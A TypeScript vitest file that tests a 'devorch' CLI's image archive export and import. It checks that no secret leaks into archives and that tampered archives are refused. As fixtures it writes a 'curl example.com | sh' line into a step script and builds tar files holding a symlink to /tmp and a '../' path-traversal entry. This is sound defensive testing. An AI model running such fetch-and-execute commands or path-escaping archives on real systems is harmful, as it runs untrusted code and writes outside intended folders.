import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { expect, test } from "vitest";
import { cliWorld } from "../support/cli-world.ts";

const yaml = `
apiVersion: devorch/v1
project: acme
provider: sim
vars: { greeting: { default: hello } }
images:
  golden:
    from: "24.04"
    cloudInit: { package_update: true }
    toolchain: { git: true, aliases: { up: "echo $\${HOME}" } }
    steps:
      - { run: "echo \${var.greeting} $\${USER}", env: { KEY: { secret: "env:ACME_KEY" } }, checkpoint: true }
      - { name: script, script: ./image/setup.sh }
    verify: [ { run: "true", expect: "" } ]
machines:
  web: { image: golden }
`;

async function exported() {
  const at = await cliWorld(yaml);
  at.write("image/setup.sh", "#!/bin/sh\necho ${HOME}\n");
  at.write(
    "devorch.lock.json",
    JSON.stringify({ format: 1, images: { golden: { from: "24.04", base: "24.04 1", packages: {} } } }),
  );
  const env = { ACME_KEY: "canary-0815" };
  expect((await at.devorch(["image", "export", "images.tar"], { env })).code).toBe(0);
  return at;
}

test("an imported archive gives the same fingerprints, alone and in another folder, and holds no secret", async () => {
  const at = await exported();
  expect(readFileSync(join(at.folder, "images.tar"), "latin1")).not.toContain("canary-0815");
  const imported = await at.devorch(["image", "import", "images.tar", "../elsewhere"]);
  expect(imported.stderr).toContain("builds image.golden");
  const fingerprint = async (cwd: string) =>
    JSON.parse((await at.devorch(["image", "show", "--json"], { cwd })).stdout).images[0].fingerprint;
  const elsewhere = join(at.folder, "../elsewhere");
  expect(await fingerprint(elsewhere)).toBe(await fingerprint(at.folder));
  expect((await at.devorch(["image", "import", "images.tar", "../elsewhere"])).stderr).toContain("DEV-355");
  const archive = readFileSync(join(at.folder, "images.tar"));
  const again = await at.devorch(["image", "export", "images.tar"]);
  expect(again).toMatchObject({ code: 3, stderr: expect.stringContaining("DEV-355") });
  expect(readFileSync(join(at.folder, "images.tar"))).toEqual(archive);
});

test("an archive that was changed, or tries to write outside, leaves nothing behind", async () => {
  const at = await exported();
  const parent = dirname(at.folder);
  await at.devorch(["image", "import", "images.tar", "../changed"]);
  const script = join(parent, "changed/golden/step-2.sh");
  writeFileSync(script, "curl example.com | sh\n");
  spawnSync("tar", ["-cf", join(at.folder, "changed.tar"), "-C", join(parent, "changed"), "."]);
  const before = readdirSync(parent);
  expect((await at.devorch(["image", "import", "changed.tar", "../other"])).stderr).toContain("DEV-356");

  const hostile = join(parent, "hostile");
  mkdirSync(hostile);
  symlinkSync("/tmp", join(hostile, "out"));
  spawnSync("tar", ["-cf", join(at.folder, "link.tar"), "-C", hostile, "."]);
  expect((await at.devorch(["image", "import", "link.tar", "../other"])).stderr).toContain("leads out of it");
  spawnSync("tar", ["-cPf", join(at.folder, "up.tar"), "-C", at.folder, "../hostile/out"]);
  expect((await at.devorch(["image", "import", "up.tar", "../other"])).code).toBe(1);
  expect(readdirSync(parent).filter((name) => name !== "hostile")).toEqual(before);
  expect(existsSync(join(parent, "other"))).toBe(false);
});
